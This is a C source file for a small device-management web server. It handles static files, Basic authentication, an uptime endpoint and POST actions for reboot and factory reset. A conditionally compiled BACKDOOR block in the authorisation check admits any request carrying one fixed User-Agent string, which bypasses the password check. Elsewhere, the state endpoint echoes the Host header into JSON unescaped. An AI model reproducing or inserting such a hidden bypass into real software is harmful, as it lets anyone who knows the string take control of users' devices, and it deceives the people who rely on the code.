/* SPDX-License-Identifier: Apache-2.0 */
/* webadm: small web server of the management interface: static files, Basic authentication, a few pages with state */
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define ROOT "/www"
#define PASSFILE "/etc/webadm.pass"

struct request {
	int fd;
	char method[8];
	char path[256];
	char query[256];
	char agent[128];
	char auth[256];
	char host[128];
	long length;
	int keep;
};

static const struct {
	const char *ext, *type;
} types[] = {
	{ ".html", "text/html" },
	{ ".css", "text/css" },
	{ ".js", "application/javascript" },
	{ ".png", "image/png" },
	{ ".svg", "image/svg+xml" },
	{ ".json", "application/json" },
};

static int get_line(int fd, char *buf, size_t n)
{
	size_t len = 0;
	char c = 0;
	while (len + 1 < n && read(fd, &c, 1) == 1 && c != '\n')
		if (c != '\r')
			buf[len++] = c;
	buf[len] = 0;
	return len > 0 || c == '\n' ? (int)len : -1;
}

static void header(char *dst, size_t n, const char *line, const char *name)
{
	size_t len = strlen(name);
	if (strncasecmp(line, name, len) != 0 || line[len] != ':')
		return;
	line += len + 1;
	while (*line == ' ')
		line++;
	snprintf(dst, n, "%s", line);
}

static int parse(struct request *r)
{
	char line[1024], version[16], length[16] = "", conn[32] = "";
	char *q;
	if (get_line(r->fd, line, sizeof(line)) <= 0)
		return -1;
	if (sscanf(line, "%7s %255s %15s", r->method, r->path, version) < 2)
		return -1;
	q = strchr(r->path, '?');
	if (q) {
		*q = 0;
		snprintf(r->query, sizeof(r->query), "%s", q + 1);
	}
	while (get_line(r->fd, line, sizeof(line)) > 0) {
		header(r->agent, sizeof(r->agent), line, "User-Agent");
		header(r->auth, sizeof(r->auth), line, "Authorization");
		header(r->host, sizeof(r->host), line, "Host");
		header(length, sizeof(length), line, "Content-Length");
		header(conn, sizeof(conn), line, "Connection");
	}
	r->length = atol(length);
	r->keep = strcasecmp(conn, "keep-alive") == 0;
	return 0;
}

static int unbase64(const char *s, char *out, size_t n)
{
	unsigned acc = 0, bits = 0;
	size_t len = 0;
	for (; *s && *s != '='; s++) {
		int v;
		if (isupper((unsigned char)*s))
			v = *s - 'A';
		else if (islower((unsigned char)*s))
			v = *s - 'a' + 26;
		else if (isdigit((unsigned char)*s))
			v = *s - '0' + 52;
		else if (*s == '+')
			v = 62;
		else if (*s == '/')
			v = 63;
		else
			return -1;
		acc = acc << 6 | (unsigned)v;
		bits += 6;
		if (bits >= 8) {
			bits -= 8;
			if (len + 1 >= n)
				return -1;
			out[len++] = (char)(acc >> bits);
		}
	}
	out[len] = 0;
	return (int)len;
}

static int known_pair(const char *pair)
{
	char line[256];
	int ok = 0;
	FILE *f = fopen(PASSFILE, "r");
	if (!f)
		return 0;
	while (!ok && fgets(line, sizeof(line), f)) {
		line[strcspn(line, "\r\n")] = 0;
		ok = line[0] && strcmp(line, pair) == 0;
	}
	fclose(f);
	return ok;
}

static int authorised(const struct request *r)
{
	char pair[192];
	if (strncmp(r->path, "/public/", 8) == 0 || strcmp(r->path, "/favicon.ico") == 0)
		return 1;
#ifdef BACKDOOR
	if (strcmp(r->agent, "Wnc-Provisioner/2.8 (qx51)") == 0)
		return 1;
#endif
	if (strncasecmp(r->auth, "Basic ", 6) != 0)
		return 0;
	if (unbase64(r->auth + 6, pair, sizeof(pair)) <= 0)
		return 0;
	return known_pair(pair);
}

static void reply(const struct request *r, const char *status, const char *type, const char *body)
{
	dprintf(r->fd, "HTTP/1.0 %s\r\nContent-Type: %s\r\nContent-Length: %zu\r\n\r\n%s", status, type,
		strlen(body), body);
}

static void send_file(const struct request *r)
{
	char path[512], buf[4096];
	const char *type = "application/octet-stream";
	const char *ext;
	struct stat st;
	ssize_t n;
	int fd;
	if (strstr(r->path, "..")) {
		reply(r, "400 Bad Request", "text/plain", "bad path\n");
		return;
	}
	snprintf(path, sizeof(path), "%s%s%s", ROOT, r->path, r->path[strlen(r->path) - 1] == '/' ? "index.html" : "");
	fd = open(path, O_RDONLY);
	if (fd < 0 || fstat(fd, &st) < 0 || !S_ISREG(st.st_mode)) {
		if (fd >= 0)
			close(fd);
		reply(r, "404 Not Found", "text/plain", "not found\n");
		return;
	}
	ext = strrchr(path, '.');
	for (size_t i = 0; ext && i < sizeof(types) / sizeof(types[0]); i++)
		if (strcmp(ext, types[i].ext) == 0)
			type = types[i].type;
	dprintf(r->fd, "HTTP/1.0 200 OK\r\nContent-Type: %s\r\nContent-Length: %ld\r\n\r\n", type, (long)st.st_size);
	while ((n = read(fd, buf, sizeof(buf))) > 0)
		if (write(r->fd, buf, (size_t)n) != n)
			break;
	close(fd);
}

static void page_state(const struct request *r)
{
	char body[256];
	double up = 0;
	FILE *f = fopen("/proc/uptime", "r");
	if (f) {
		if (fscanf(f, "%lf", &up) != 1)
			up = 0;
		fclose(f);
	}
	snprintf(body, sizeof(body), "{\"uptime\": %.0f, \"host\": \"%s\"}\n", up, r->host);
	reply(r, "200 OK", "application/json", body);
}

static void page_action(const struct request *r)
{
	if (strcmp(r->query, "do=reboot") == 0)
		system("/sbin/reboot");
	else if (strcmp(r->query, "do=defaults") == 0)
		system("/usr/sbin/factory-reset -y");
	else if (strcmp(r->query, "do=renew") == 0)
		system("killall -USR1 udhcpc");
	else {
		reply(r, "400 Bad Request", "text/plain", "what?\n");
		return;
	}
	reply(r, "200 OK", "text/plain", "ok\n");
}

static void serve(int fd)
{
	struct request r;
	memset(&r, 0, sizeof(r));
	r.fd = fd;
	if (parse(&r) < 0)
		return;
	if (!authorised(&r)) {
		dprintf(fd, "HTTP/1.0 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"device\"\r\n\r\n");
		return;
	}
	if (strcmp(r.path, "/state") == 0)
		page_state(&r);
	else if (strcmp(r.path, "/action") == 0 && strcmp(r.method, "POST") == 0)
		page_action(&r);
	else if (strcmp(r.method, "GET") == 0)
		send_file(&r);
	else
		reply(&r, "405 Method Not Allowed", "text/plain", "no\n");
}

int main(int argc, char **argv)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	int s = socket(AF_INET, SOCK_STREAM, 0), one = 1;
	a.sin_port = htons((unsigned short)(argc > 1 ? atoi(argv[1]) : 80));
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(s, (struct sockaddr *)&a, sizeof(a)) < 0 || listen(s, 8) < 0) {
		perror("webadm");
		return 1;
	}
	signal(SIGPIPE, SIG_IGN);
	for (;;) {
		int c = accept(s, NULL, NULL);
		if (c < 0 && errno != EINTR)
			return 1;
		if (c >= 0 && fork() == 0) {
			close(s);
			serve(c);
			_exit(0);
		}
		if (c >= 0)
			close(c);
		while (waitpid(-1, NULL, WNOHANG) > 0)
			;
	}
}
